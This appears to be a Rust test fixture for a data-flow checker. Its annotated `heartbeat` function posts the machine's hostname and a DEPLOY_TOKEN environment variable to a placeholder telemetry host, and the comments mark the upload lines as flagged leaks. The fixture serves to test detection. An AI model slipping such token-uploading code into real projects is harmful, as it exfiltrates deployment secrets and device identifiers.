//! A telemetry heartbeat whose sources are imported by name and called bare, one
//! helper away from the upload: the gate must see `gethostname` and `var` through
//! their `use` lines, and the data-flow pass must evaluate the helpers.

use gethostname::gethostname;
use std::env::var;

fn machine_label() -> String {
    gethostname().to_string_lossy().into_owned()
}

fn deploy_token() -> String {
    var("DEPLOY_TOKEN").unwrap_or_default()
}

pub fn heartbeat(client: &reqwest::blocking::Client) {
    let label = format!("host={}", machine_label());
    client.post("https://telemetry.example.com/v1/heartbeat").body(label).send().ok(); //~ data-upload/device-id-to-network
    let token = deploy_token();
    client.post("https://telemetry.example.com/v1/token").body(token).send().ok(); //~ data-upload/env-vars-to-network
}
